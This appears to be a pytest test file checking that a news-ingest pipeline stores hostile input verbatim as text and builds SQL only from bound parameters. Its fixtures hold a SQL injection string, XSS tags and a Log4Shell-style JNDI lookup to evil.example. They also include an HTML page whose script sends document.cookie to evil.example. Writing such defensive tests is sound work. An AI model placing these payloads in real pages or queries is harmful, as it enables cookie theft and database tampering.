"""Hostile input stays data: SQL, markup, template syntax, control characters and absurd
tokens in an article (or its file name) are stored as text, never run or interpreted; and
values reach SQL only as bound parameters (the one exception: the staged batch's own
Parquet paths, quoted into its stg_ views, as DuckDB cannot prepare a view)."""

from __future__ import annotations

import ast
from pathlib import Path

import pytest

from flows.settings import REPO_ROOT, Settings
from flows.warehouse import connect

pytestmark = pytest.mark.e2e

INJECTION = "Robert'); DROP TABLE dim_articles; --"
SCRIPT = "<script>alert('pwned')</script>"
TEMPLATES = "{{ 7*7 }} ${jndi:ldap://evil.example/a} {% include 'x' %} %s %(name)s {0}"
LONG_TOKEN = "A" * 60_000

PLAIN_ARTICLE = f"""Officials Discuss Hostile Strings in City Records

City officials said on Monday that a resident named {INJECTION} had filed a complaint.
The complaint quoted the text {SCRIPT} and the odd phrase {TEMPLATES} in full.
A bell\x07 character and a\x7f delete\x1b[31m escape sat in the middle of this sentence.
One line held a token of sixty thousand letters: {LONG_TOKEN} and then the sentence ended.
"We store what people write, not what it might mean to a computer," the clerk said.
"""

HTML_ARTICLE = """<!doctype html><html><head><title>Markup in the News</title>
<script>document.location='https://evil.example/?c='+document.cookie</script></head>
<body><nav><a href="/">Home</a></nav><article><h1>Markup in the News</h1>
<p>The council published a report on Tuesday that printed the string
&lt;script&gt;alert(1)&lt;/script&gt; as an example of an attack on its website.</p>
<p onclick="alert(2)">Engineers said the page had been fixed within hours, and that no
resident data had been exposed during the incident last week.</p>
<img src=x onerror="alert(3)"></article></body></html>
"""


def test_hostile_text_and_names_are_stored_verbatim(tmp_path: Path) -> None:
    from flows.pipeline import pipeline

    inbox = tmp_path / "inbox"
    inbox.mkdir()
    hostile_name = "x'); drop table dim_articles; --.txt"
    (inbox / hostile_name).write_text(PLAIN_ARTICLE)
    (inbox / "markup.html").write_text(HTML_ARTICLE)
    settings = Settings(inputs=[inbox], warehouse=tmp_path / "wh")
    summary = pipeline(settings)
    assert (summary.status, summary.articles_new, summary.files_quarantined) == ("completed", 2, 0)

    con = connect(settings.warehouse)
    try:
        tables = {
            row[0]
            for row in con.execute("select table_name from information_schema.tables").fetchall()
        }
        assert "dim_articles" in tables
        rows = dict(con.execute("select source_file, body from dim_articles").fetchall())
    finally:
        con.close()
    plain = rows[str(inbox / hostile_name)]
    for hostile in (INJECTION, SCRIPT, TEMPLATES, LONG_TOKEN):
        assert hostile in plain
    # Control characters are dropped by the Unicode repair, the words around them kept.
    # (A NUL byte is not tried here: ingest takes a file with NULs for binary.)
    assert "A bell character and a delete" in plain
    assert not any(c in plain for c in "\x07\x7f\x1b")
    page = rows[str(inbox / "markup.html")]
    assert "<script>alert(1)</script>" in page  # text the page showed, as text
    assert "document.cookie" not in page and "onclick" not in page and "onerror" not in page


SQL_METHODS = {"execute", "executemany", "sql", "query", "from_query"}


def _formatted(node: ast.AST) -> bool:
    """A string built at run time: f-string, %-formatting, + concatenation or .format()."""
    if isinstance(node, ast.JoinedStr):
        return True
    if isinstance(node, ast.BinOp) and isinstance(node.op, (ast.Mod, ast.Add)):
        return True
    return (
        isinstance(node, ast.Call)
        and isinstance(node.func, ast.Attribute)
        and node.func.attr == "format"
    )


def test_sql_is_never_built_by_string_formatting() -> None:
    """Every SQL call in the package passes a constant or a statement read from sql/;
    values travel as bound parameters. (An AST scan: stricter than grep, no false hits in
    comments.)"""
    offenders = []
    for path in sorted((REPO_ROOT / "flows").rglob("*.py")):
        tree = ast.parse(path.read_text(), filename=str(path))
        for node in ast.walk(tree):
            if (
                isinstance(node, ast.Call)
                and isinstance(node.func, ast.Attribute)
                and node.func.attr in SQL_METHODS
                and node.args
                and _formatted(node.args[0])
            ):
                offenders.append(f"{path.relative_to(REPO_ROOT)}:{node.lineno}")
    assert offenders == []


def test_the_scan_catches_a_formatted_statement() -> None:
    """The scan above is not vacuous: it flags the patterns it looks for."""
    for source in (
        'con.execute(f"select * from t where id = {x}")',
        'con.sql("select * from t where id = %s" % x)',
        'con.execute("select " + column)',
        'con.execute("select {}".format(x))',
    ):
        call = ast.parse(source).body[0].value
        assert _formatted(call.args[0]), source
    assert not _formatted(ast.parse('con.execute("select ?", [x])').body[0].value.args[0])
